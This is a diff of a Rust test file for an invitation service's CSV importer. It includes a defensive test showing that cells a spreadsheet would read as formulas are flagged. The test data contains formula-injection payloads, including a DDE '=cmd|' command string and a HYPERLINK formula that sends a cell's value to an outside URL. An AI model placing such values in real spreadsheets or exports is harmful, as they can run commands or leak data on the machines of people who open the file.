@@ -147,7 +147,10 @@ async fn who_is_invited_cannot_be_read_in_the_database_nor_how() {
 
 #[test]
 fn a_table_is_read_whole_or_all_that_is_wrong_is_told() {
-    let read = |table: &str| Invitee::read(table, None).err().unwrap_or_default();
+    let read = |table: &str| -> Vec<String> {
+        let findings = Invitee::read(table, None).err().unwrap_or_default();
+        findings.iter().map(ToString::to_string).collect()
+    };
     assert_eq!(read(PEOPLE), Vec::<String>::new());
     assert_eq!(read("\u{feff}reference\r\nada\r\n"), Vec::<String>::new());
     assert_eq!(read("email, reference\n,ada\n"), Vec::<String>::new());
@@ -189,13 +192,27 @@ fn what_a_spreadsheet_would_take_for_a_formula_comes_into_no_list() {
                  a,\"=HYPERLINK(\"\"http://example.org/\"\"&D1)\",+1,=cmd|'/c'!A0@example.org\n\
                  b, @SUM(A1),-,-a@example.org\n\
                  w,＝SUM(A1),＋1,\n\
-                 c,Anna-Karin,O'Hara = Byron,a+b=c@example.org\n";
+                 c,Anna-Karin,O'Hara = Byron,a+b=c@example.org\n\
+                 -2-3,,,\n";
     let findings = Invitee::read(table, None).err().unwrap_or_default();
-    let places: Vec<_> = findings.iter().map(|finding| &finding[..3]).collect();
-    assert_eq!(places, ["2:2", "2:3", "2:4", "3:2", "3:3", "3:4", "4:2", "4:3"]);
-    let (_, why) = findings[0].split_at(5);
+    let places: Vec<_> = findings
+        .iter()
+        .map(|finding| (finding.line, finding.column))
+        .collect();
+    let expected = [
+        (2, 2),
+        (2, 3),
+        (2, 4),
+        (3, 2),
+        (3, 3),
+        (3, 4),
+        (4, 2),
+        (4, 3),
+        (6, 1),
+    ];
+    assert_eq!(places, expected);
     assert_eq!(
-        why,
+        findings[0].text,
         "a spreadsheet would take this for a formula: it begins with `=`, `+`, `-` or `@`"
     );
 }
@@ -215,7 +232,7 @@ async fn an_invitation_is_asked_for_once_and_by_no_word_that_could_be_another() 
     })
     .await
     .unwrap();
-    // Number 3 is of the reference 2; number 2 is nobody's.
+    // Number 3 has the reference 2; number 2 has no reference.
     let [revoked, again] = [
         admin(&server, |admin| admin.revoke("pulse", "2")).await,
         admin(&server, |admin| admin.letters("pulse", &keys(&["2"])).map(|_| ())).await,
